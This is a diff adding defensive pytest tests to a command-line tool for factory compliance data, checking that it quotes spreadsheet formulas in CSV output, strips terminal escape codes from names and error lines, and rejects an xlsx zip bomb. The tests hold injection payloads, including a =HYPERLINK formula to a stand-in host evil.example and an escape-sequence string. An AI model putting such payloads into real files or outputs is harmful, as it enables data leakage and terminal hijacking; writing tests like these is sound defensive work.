@@ -4,14 +4,20 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import os
+import pty
+import re
+import select
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
+from sqlalchemy import create_engine, text
 
-from tests.conftest import write_csv
+from tests.conftest import EXPORT_HEADER, write_csv
+from tests.test_readers import sheet_xml, zip_workbook
 
 
 def bw(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
@@ -224,3 +230,96 @@ def test_progress_csv(loaded: str, tmp_path: Path) -> None:
         "1",
         "1",
     )
+
+
+# -- what the command writes is safe where it lands -------------------------------------------
+
+
+def test_csv_listings_quote_texts_a_spreadsheet_would_run(loaded: str, tmp_path: Path) -> None:
+    hyperlink = '=HYPERLINK("http://evil.example/?leak","Brand One")'
+    partners = tmp_path / "partners.csv"
+    with partners.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows(
+            [
+                ["Partner.ID", "Partner.Name", "Partner.Type", "Factory.ID", "Consent"],
+                ["B01", hyperlink, "buyer", "VN001", "yes"],
+                ["B02", "@Brand Two", "buyer", "VN001", "yes"],
+                ["B03", "+Brand-Three", "buyer", "", ""],
+                ["-4", "Brand Four", "buyer", "", ""],
+            ]
+        )
+    assert bw("import", "partners", str(partners), "--db", loaded).returncode == 0
+    out = bw("partners", "--db", loaded, "--format", "csv")
+    names = {r["partner_id"]: r["partner_name"] for r in table(out.stdout)}
+    assert names == {
+        "B01": "'" + hyperlink,
+        "B02": "'@Brand Two",
+        "B03": "'+Brand-Three",
+        "-4": "Brand Four",  # a number cannot be a formula
+    }
+    as_json = bw("partners", "--db", loaded, "--format", "json")
+    as_listed = {r["partner_id"]: r["partner_name"] for r in json.loads(as_json.stdout)}
+    assert as_listed["B01"] == hyperlink  # JSON is not a spreadsheet
+    rates = bw("rates", "--db", loaded, "--from", "2023-01", "--to", "2024-12", "--format", "csv")
+    assert all(float(r["non_compliance_rate"]) >= 0 for r in table(rates.stdout))
+
+
+def on_terminal(*args: str) -> str:
+    """Run the bwcases command with a terminal as its output; returns what the terminal got."""
+    leader, follower = pty.openpty()
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "bwcases", *args],
+        stdin=subprocess.DEVNULL,
+        stdout=follower,
+        stderr=follower,
+    )
+    os.close(follower)
+    out = b""
+    while select.select([leader], [], [], 120)[0]:
+        try:
+            data = os.read(leader, 65536)
+        except OSError:  # the command ended and the terminal closed
+            break
+        if not data:
+            break
+        out += data
+    os.close(leader)
+    proc.wait(timeout=10)
+    return out.decode("utf-8", "replace")
+
+
+ESCAPES = "\x1b[31m\x1b]0;owned\x07\x9b2J\x1b]8;;http://evil.example\x1b\\\x08\r"
+
+
+@pytest.mark.parametrize("fmt", [[], ["--format", "csv"], ["--format", "table"]])
+def test_names_reach_a_terminal_without_escape_codes(loaded: str, fmt: list[str]) -> None:
+    engine = create_engine(loaded)
+    with engine.begin() as conn:
+        conn.execute(
+            text("UPDATE factories SET factory_name = :name WHERE factory_id = 'VN001'"),
+            {"name": f"Saigon{ESCAPES} Garments"},
+        )
+    engine.dispose()
+    shown = on_terminal("factories", "--db", loaded, "--country", "Vietnam", *fmt)
+    assert "Saigon Garments" in shown and "VN002" in shown
+    assert not re.search("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f]", shown), repr(shown)
+
+
+def test_error_lines_carry_no_escape_codes(loaded: str, tmp_path: Path) -> None:
+    path = tmp_path / "assessments\x1b[31m\x1b]0;owned\x07\x9b2J\x08.csv"  # no slash
+    out = bw("import", "assessments", str(path), "--db", loaded)
+    assert out.returncode == 2
+    assert out.stderr.startswith("bwcases: assessments")
+    assert "no such file" in out.stderr
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", out.stderr), repr(out.stderr)
+
+
+def test_an_xlsx_zip_bomb_is_one_clear_line(loaded: str, tmp_path: Path) -> None:
+    rows = [EXPORT_HEADER.split(","), *[["Vietnam", "1", "VN001"] * 4] * 40_000]
+    bomb = zip_workbook(tmp_path / "bomb.xlsx", sheet_xml(rows))
+    out = bw("import", "assessments", str(bomb), "--db", loaded)
+    assert out.returncode == 2
+    lines = out.stderr.splitlines()
+    assert lines[0].startswith("bwcases: bomb.xlsx: has a part (xl/worksheets/sheet1.xml) ")
+    assert lines[0].endswith("it looks like a zip bomb")
+    assert lines[1:] == ["bwcases: Nothing was written."]
